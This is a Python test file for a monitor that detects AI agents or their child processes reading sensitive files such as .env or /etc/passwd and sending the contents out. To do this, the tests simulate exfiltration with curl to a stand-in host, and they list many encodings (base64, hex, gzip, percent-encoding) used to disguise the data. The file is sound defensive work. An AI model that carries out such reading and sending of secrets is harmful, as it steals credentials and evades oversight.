from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterable
from typing import Any
from urllib.parse import quote, quote_plus

import pytest

from collector import content_sightings
from collector.connections import EXCHANGES_BEFORE_IGNORING
from collector.content_sightings import BODY_LIMIT_BYTES, is_convincing
from collector.fingerprints import FINGERPRINTS_LIMIT, READ_LIMIT_BYTES
from collector.pipeline import Pipeline
from collector.redaction import Redactor
from collector.rows import Batch, ContentSightingRow
from probes import action_frames, frames
from probes.events import ConnectionKey, FileOperation
from tests.frames import (
    AGENT,
    CONNECTION,
    INFO,
    SALT,
    SECOND,
    STARTED_NS,
    Wire,
    answer,
    ask,
    assistant,
    executed,
    exited,
    forked,
    frame,
    http_request,
    http_response,
    text,
    tool_result,
    tool_use,
    user,
)

SENT_BY = 5001
READER = 5000
SINK = ConnectionKey(SENT_BY, STARTED_NS, 0x9000, 1)
KEY = "sk-proj-Zk9xQ2vLr8TnW4yB7mJ1cF6hD3sA5gE0"
SECRETS = f"""# settings
NODE_ENV=production
OPENAI_API_KEY={KEY}
SIGNING_TOKEN=kX93mPq27LwZt81vB
DB_PASSWORD=p@ss!word98
"""
PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
dev:x:1000:1000:,,,:/home/dev:/bin/zsh
"""


def touched(path: str, pid: int, inode: int, *, at: int) -> bytes:
    name = path.encode() + b"\0"
    payload = action_frames.TOUCHED.pack(
        *(STARTED_NS, 3, 0, 8, inode, pid, pid, len(name), 0, 0, 0),
        *(FileOperation.OPEN, 1, 0),
    )
    return frame(frames.FILE_TOUCHED, payload + name, at)


def reads(
    content: str, path: str = "/home/dev/shop/.env", *, pid: int = READER, at: int = 10 * SECOND
) -> list[bytes]:
    """The process opens a file and reads all of it."""
    inode = sum(path.encode())
    payload = action_frames.FILE_CONTENT.pack(STARTED_NS, 8, inode, 0, pid) + content.encode()
    return [
        touched(path, pid, inode, at=at),
        frame(frames.FILE_CONTENT, payload, at + 1000),
    ]


def tree() -> list[bytes]:
    """An agent whose shell runs two programs."""
    return [
        executed(AGENT, 1, [b"agent"], at=1),
        forked(READER, AGENT, at=2),
        executed(READER, AGENT, [b"cat", b".env"], at=3),
        forked(SENT_BY, AGENT, at=4),
        executed(SENT_BY, AGENT, [b"curl"], at=5),
    ]


def posts(
    body: bytes,
    *,
    target: str = "/collect",
    headers: Iterable[str] = (),
    key: ConnectionKey = SINK,
    at: int = 20 * SECOND,
    host: str = "sink.example:8080",
    method: str = "POST",
) -> list[bytes]:
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    request = "\r\n".join([*lines, "", ""]).encode() + body
    return Wire(key, at).sends(request).receives(http_response(b"{}")).closes().frames


def run(captured: Iterable[bytes], *, bodies: bool = True, content: bool = True) -> Batch:
    """All rows of a capture; `bodies`: frames are kept, so keys in them are masked."""
    redactor = Redactor(SALT, bodies=bodies)
    pipeline = Pipeline(
        INFO,
        redactor.redact_text,
        content=content,
        header_value=redactor.header_value,
        fingerprinter=redactor.fingerprinter,
    )
    for one in captured:
        pipeline.feed(redactor.frame(one))
    return pipeline.finish()


def sightings(captured: Iterable[bytes], **options: Any) -> list[ContentSightingRow]:
    return run(captured, **options).content_sightings


ENCODED = {
    "plain": SECRETS.encode(),
    "plain key": f'{{"key": "{KEY}"}}'.encode(),
    "plain value": b"kX93mPq27LwZt81vB",
    "plain json": json.dumps({"text": SECRETS}).encode(),
    "plain json in json": json.dumps({"text": json.dumps({"file": SECRETS})}).encode(),
    "plain part": "\n".join(SECRETS.split("\n")[1:4]).encode(),
    "plain joined": SECRETS.replace("\n", "").encode(),
    "plain joined in more": b"x=1&file=" + SECRETS.replace("\n", "").encode(),
    "base64": base64.b64encode(SECRETS.encode()),
    "base64 wrapped": base64.encodebytes(SECRETS.encode()),
    "base64 in a form": b"a=b&data=" + quote(base64.b64encode(SECRETS.encode())).encode(),
    "base64 url-safe": base64.urlsafe_b64encode(SECRETS.encode()).rstrip(b"="),
    "hex": SECRETS.encode().hex().encode(),
    "percent": b"data=" + quote_plus(SECRETS).encode(),
    "gzip": gzip.compress(SECRETS.encode()),
}


@pytest.mark.parametrize("bodies", [True, False], ids=["masked", "unmasked"])
@pytest.mark.parametrize("how", ENCODED)
def test_content_in_a_body_is_seen(how: str, bodies: bool) -> None:
    sent = [*tree(), *reads(SECRETS), *posts(ENCODED[how])]
    (row,) = sightings(sent, bodies=bodies)
    assert row.encoding.split("+")[-1] == how.split()[0]
    assert (row.path, row.sensitive) == ("/home/dev/shop/.env", "environment_file")
    assert (row.host, row.url_path, row.call_id) == ("sink.example:8080", "/collect", None)
    assert (row.pid, row.place) == (SENT_BY, "body")
    assert 0 < row.matched <= row.known
    assert row.read_ns < row.sent_ns


def test_a_coded_body_is_seen_decoded() -> None:
    body = gzip.compress(SECRETS.encode())
    (row,) = sightings([*tree(), *reads(SECRETS), *posts(body, headers=["Content-Encoding: gzip"])])
    assert (row.encoding, row.matched) == ("plain", row.known)


@pytest.mark.parametrize("bodies", [True, False], ids=["masked", "unmasked"])
def test_content_in_a_query_is_seen(bodies: bool) -> None:
    data = base64.urlsafe_b64encode(SECRETS.encode()).decode().rstrip("=")
    for query in (f"d={data}", f"x=1&note={quote_plus(SECRETS)}", f"token={KEY}"):
        sent = posts(b"", target=f"/pixel.gif?{query}", method="GET")
        (row,) = sightings([*tree(), *reads(SECRETS), *sent], bodies=bodies)
        assert (row.place, row.url_path) == ("url", "/pixel.gif")


def test_a_path_that_carries_content_is_not_stored() -> None:
    data = base64.urlsafe_b64encode(SECRETS.encode()).decode()
    sent = posts(b"", target=f"/x/{data}", method="GET")
    (row,) = sightings([*tree(), *reads(SECRETS), *sent])
    assert (row.place, row.url_path, row.encoding) == ("url", None, "base64")


def test_content_in_headers_is_seen() -> None:
    headers = [f"X-Note: {base64.b64encode(SECRETS.encode()).decode()}"]
    (row,) = sightings([*tree(), *reads(SECRETS), *posts(b"", headers=headers, method="GET")])
    assert (row.place, row.encoding) == ("header", "base64")
    headers = [f"Authorization: Bearer {KEY}"]
    (row,) = sightings([*tree(), *reads(SECRETS), *posts(b"", headers=headers, method="GET")])
    assert (row.place, row.encoding) == ("credential", "plain")


def test_a_program_may_use_its_own_credentials() -> None:
    npmrc = "//registry.example/:_authToken=kX93mPq27LwZt81vB\n"
    read = reads(npmrc, "/root/.npmrc", pid=SENT_BY)
    used = posts(b"", headers=["Authorization: Bearer kX93mPq27LwZt81vB"], method="GET")
    assert sightings([*tree(), *read, *used]) == []
    refresh = b"grant_type=refresh_token&refresh_token=kX93mPq27LwZt81vB"
    assert sightings([*tree(), *read, *posts(refresh)]) == []
    sent = sightings([*tree(), *read, *posts(npmrc.encode())])
    assert [row.place for row in sent] == ["body"]


def chat(*messages: Any, at: int = 30 * SECOND) -> list[bytes]:
    key = CONNECTION._replace(epoch=at)
    return Wire(key, at).sends(ask(messages)).receives(answer(text("ok"))).closes().frames


@pytest.mark.parametrize("bodies", [True, False], ids=["masked", "unmasked"])
def test_a_tool_result_shows_the_file_to_the_provider(bodies: bool) -> None:
    asked = [user("fix the tests"), assistant(tool_use("toolu_1", "cat .env"))]
    shown = [*asked, tool_result("toolu_1", SECRETS)]
    later = [*shown, assistant(text("It is a shop.")), user("thanks")]
    captured = [
        *tree(),
        *chat(asked[0], at=5 * SECOND),
        *reads(SECRETS),
        *chat(*shown, at=30 * SECOND),
        *chat(*later, at=40 * SECOND),
    ]
    rows = run(captured, bodies=bodies)
    calls = sorted(rows.calls, key=lambda call: call.started_ns)
    (row,) = rows.content_sightings
    assert (row.call_id, row.host) == (calls[1].call_id, "api.anthropic.com")
    assert (row.place, row.encoding, row.matched) == ("message", "plain", row.known)


def test_nothing_is_seen_before_it_was_read() -> None:
    body = SECRETS.encode()
    assert sightings([*tree(), *posts(body), *reads(SECRETS, at=50 * SECOND)]) == []


def test_another_tree_is_not_looked_at() -> None:
    other = [executed(9000, 1, [b"cat"], at=6), *reads(SECRETS, pid=9000)]
    assert sightings([*tree(), *other, *posts(SECRETS.encode())]) == []


def test_files_that_only_share_a_name_are_not_sensitive() -> None:
    read = reads(SECRETS, "/srv/app/src/auth.json")
    assert sightings([*tree(), *read, *posts(SECRETS.encode())]) == []


def test_a_file_whose_opening_was_not_seen() -> None:
    (row,) = sightings([*tree(), reads(SECRETS)[1], *posts(SECRETS.encode())])
    assert (row.path, row.sensitive) == (None, "listed_name")


def test_the_reader_may_have_ended() -> None:
    gone = exited(READER, 0, at=11 * SECOND)
    (row,) = sightings([*tree(), *reads(SECRETS), gone, *posts(SECRETS.encode())])
    assert row.read_process_key != row.process_key
    assert f":{READER}:" in row.read_process_key


def test_a_connection_is_followed_once_it_may_carry_content() -> None:
    wire = Wire(SINK, 20 * SECOND)
    for _ in range(3 * EXCHANGES_BEFORE_IGNORING):
        wire.sends(http_request("/x", method="GET")).receives(http_response(b"{}"))
    wire.sends(http_request("/x", SECRETS.encode())).receives(http_response(b"{}")).closes()
    assert len(sightings([*tree(), *reads(SECRETS), *wire.frames])) == 1
    assert sightings([*tree(), *wire.frames]) == []


def test_a_body_that_claims_to_be_a_call() -> None:
    sent = posts(SECRETS.encode(), target="/v1/messages", host="sink.example")
    (row,) = sightings([*tree(), *reads(SECRETS), *sent])
    assert (row.host, row.call_id) == ("sink.example", None)


def test_a_request_that_is_cut_was_sent_all_the_same() -> None:
    request = b"POST /x HTTP/1.1\r\nHost: sink\r\nContent-Length: 99999\r\n\r\n" + SECRETS.encode()
    cut = Wire(SINK, 20 * SECOND).sends(request).closes().frames
    assert len(sightings([*tree(), *reads(SECRETS), *cut])) == 1


def test_what_lies_behind_the_limit_is_not_looked_at() -> None:
    body = b"-" * BODY_LIMIT_BYTES + SECRETS.encode()
    assert sightings([*tree(), *reads(SECRETS), *posts(body)]) == []


def counters(batch: Batch) -> dict[str, int]:
    return {row.counter: row.value for row in batch.health if row.source == "content"}


def test_what_is_read_and_looked_at_is_counted() -> None:
    other = reads("x=1\n", "/srv/app/src/auth.json", pid=SENT_BY)
    use = posts(b"{}", headers=[f"Authorization: Bearer {KEY}"])
    told = counters(run([*tree(), *reads(SECRETS, pid=SENT_BY), *other, *use]))
    looked_at = told.pop("looked_at_bytes")
    assert looked_at >= len(f"/collect{{}}Bearer {KEY}")
    assert told == {"sensitive_reads": 1, "other_reads": 1, "credentials_used": 1}


def test_what_is_beyond_the_limits_of_a_file_is_counted_once() -> None:
    line, path = "name%06d=wD8vN3xQ%06dLm5\n", "/home/dev/shop/.env"
    text = "".join(line % (n, n) for n in range(READ_LIMIT_BYTES // 20)).encode()
    inode, size = sum(path.encode()), READ_LIMIT_BYTES // 3
    captured = [*tree(), touched(path, READER, inode, at=10 * SECOND)]
    for position in range(0, len(text), size):
        head = action_frames.FILE_CONTENT.pack(STARTED_NS, 8, inode, position, READER)
        captured.append(
            frame(frames.FILE_CONTENT, head + text[position : position + size], 11 * SECOND)
        )
    told = counters(run(captured))
    assert told["skipped_bytes"] == len(text) - READ_LIMIT_BYTES
    lines = READ_LIMIT_BYTES // len(line % (0, 0))
    assert 0 <= told["skipped_fingerprints"] - (2 * lines - FINGERPRINTS_LIMIT) <= lines
    again = counters(run([*captured, *captured[-len(text) // -size :]]))
    assert again["sensitive_reads"] == 2 * told["sensitive_reads"]
    assert again["skipped_bytes"] == 2 * told["skipped_bytes"]


def test_a_body_that_is_not_looked_at_is_counted_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(content_sightings, "HELD_LIMIT_BYTES", -1)
    wire = Wire(SINK, 20 * SECOND)
    request = b"POST /x HTTP/1.1\r\nHost: sink\r\nContent-Length: %d\r\n\r\n" % len(SECRETS)
    wire.sends(request + SECRETS.encode()[:9])
    wire.sends(SECRETS.encode()[9:20]).sends(SECRETS.encode()[20:]).receives(http_response(b"{}"))
    batch = run([*tree(), *reads(SECRETS), *wire.closes().frames])
    assert counters(batch)["skipped_bodies"] == 1
    assert batch.content_sightings == []


BENIGN = {
    "a manual of passwd": "Each line of /etc/passwd looks like\nroot:x:0:0:root:/root:/bin/bash\n",
    "an example": "NODE_ENV=production\nOPENAI_API_KEY=sk-...\nDB_PASSWORD=changeme\n",
    "names of settings": "Set OPENAI_API_KEY, SIGNING_TOKEN and DB_PASSWORD in .env\n",
    "code": "const env = process.env.NODE_ENV === 'production' ? 'prod' : 'dev';\n" * 20,
    "a commit": "commit 9fceb02d0ae598e95dc970b74767f19372d61af8\nAuthor: dev <dev@example.org>\n",
}


@pytest.mark.parametrize("what", BENIGN)
def test_ordinary_text_is_no_sighting(what: str) -> None:
    known = [*reads(SECRETS), *reads(PASSWD, "/etc/passwd")]
    shown = tool_result("toolu_1", BENIGN[what])
    captured = [*tree(), *known, *posts(BENIGN[what].encode()), *chat(user("go"), shown)]
    assert sightings(captured) == []


def test_accounts_are_seen_when_most_of_them_are_sent() -> None:
    read = reads(PASSWD, "/etc/passwd")
    encoded = base64.encodebytes(PASSWD.encode())
    (row,) = sightings([*tree(), *read, *posts(encoded)])
    assert (row.sensitive, row.encoding, row.matched) == ("system_accounts", "base64", row.known)


def test_accounts_without_line_breaks_are_seen() -> None:
    """`curl -d @/etc/passwd` sends them so."""
    joined = PASSWD.replace("\n", "").encode()
    (row,) = sightings([*tree(), *reads(PASSWD, "/etc/passwd"), *posts(joined)])
    assert (row.sensitive, row.place) == ("system_accounts", "body")


@pytest.mark.parametrize(
    ("matched", "known", "expected"),
    [([3], 100, True), ([2], 1, True), ([2], 2, False), ([2, 4], 4, True), ([2, 4], 5, False)],
)
def test_what_is_convincing(matched: list[int], known: int, expected: bool) -> None:
    assert is_convincing(matched, known) is expected


def test_without_a_read_nothing_is_looked_at() -> None:
    rows = run([*tree(), *posts(SECRETS.encode()), *chat(user("go"))])
    assert not [row for row in rows.health if row.source == "content"]
    assert rows.content_sightings == []


def test_rows_hold_none_of_the_content() -> None:
    rows = run([*tree(), *reads(SECRETS), *posts(ENCODED["base64"])])
    said = repr(rows.content_sightings)
    for line in SECRETS.splitlines():
        assert line not in said
